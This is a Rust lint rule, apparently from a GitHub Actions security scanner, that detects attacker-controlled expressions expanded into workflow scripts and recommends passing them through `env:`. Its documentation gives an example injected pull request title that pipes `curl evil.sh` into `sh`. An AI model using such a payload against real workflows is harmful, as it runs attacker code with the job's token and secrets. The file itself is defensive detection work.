//! ## What it does
//! Flags a `${{ … }}` expression that expands attacker-controlled text into
//! code: a `run:` script of a workflow or composite action, or an action
//! input that is code (`script:` of `actions/github-script` and
//! `appleboy/ssh-action`, `inlineScript:` of `azure/cli` and
//! `azure/powershell`). Attacker-controlled means text anyone can
//! write: pull request titles, bodies and branch names, issue and comment
//! bodies, commit messages and authors, `github.head_ref`, and the like.
//!
//! ## Why is this bad?
//! Expressions are substituted into the script before the shell sees it. A
//! pull request titled `"; curl evil.sh | sh; echo "` becomes part of the
//! command, and runs with the job's token and secrets.
//!
//! ## Example
//! ```yaml
//! on: pull_request_target
//! jobs:
//!   greet:
//!     runs-on: ubuntu-24.04
//!     steps:
//!       - run: echo "Thanks for ${{ github.event.pull_request.title }}"
//! ```
//!
//! ## Use instead
//! ```yaml
//! on: pull_request_target
//! jobs:
//!   greet:
//!     runs-on: ubuntu-24.04
//!     steps:
//!       - run: echo "Thanks for $TITLE"
//!         env:
//!           TITLE: ${{ github.event.pull_request.title }}
//! ```
use crate::prelude::*;

pub const META: Meta = Meta {
    summary: "attacker-controlled context expanded into a script",
    severity: Severity::High,
    tags: &["security"],
    aliases: &["template-injection", "injection", "expression", "CKV_GHA_2", "Dangerous-Workflow"],
    ..Meta::DEFAULT
};

/// Action inputs that are code: (action, input).
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("appleboy/ssh-action", "script"),
];

pub fn check(cx: &mut Ctx, repo: &Repo) {
    for step in repo.steps() {
        let t = text(cx, step.doc);
        let sink = match step.run() {
            Some(run) => Some(("a `run:` script".to_string(), run)),
            None => CODE_INPUTS.iter().find(|(a, _)| step.uses_action(a)).and_then(|(a, input)| {
                let name = a.rsplit('/').next().unwrap_or(a);
                Some((format!("the {name} `{input}:` input, which runs as code"), step.with(input)?))
            }),
        };
        let Some((sink, node)) = sink else { continue };
        for found in expressions(t, node) {
            let Some(e) = &found.expr else { continue };
            let tainted = e.tainted();
            let Some(first) = tainted.first() else { continue };
            let trigger = step.workflow.and_then(|w| w.privileged()).map(|(t, _)| t.clone());
            let msg = format!(
                "`${{{{ {} }}}}` expands attacker-controlled `{first}` into {sink}{}",
                found.source,
                trigger.map(|t| format!(" (the workflow runs on {t}, with secrets)")).unwrap_or_default()
            );
            cx.report_in(step.doc, found.span.clone(), msg).help(
                "pass the value through `env:` (e.g. `env: VALUE: ${{ … }}`) and use \"$VALUE\" in the script",
            );
        }
    }
}
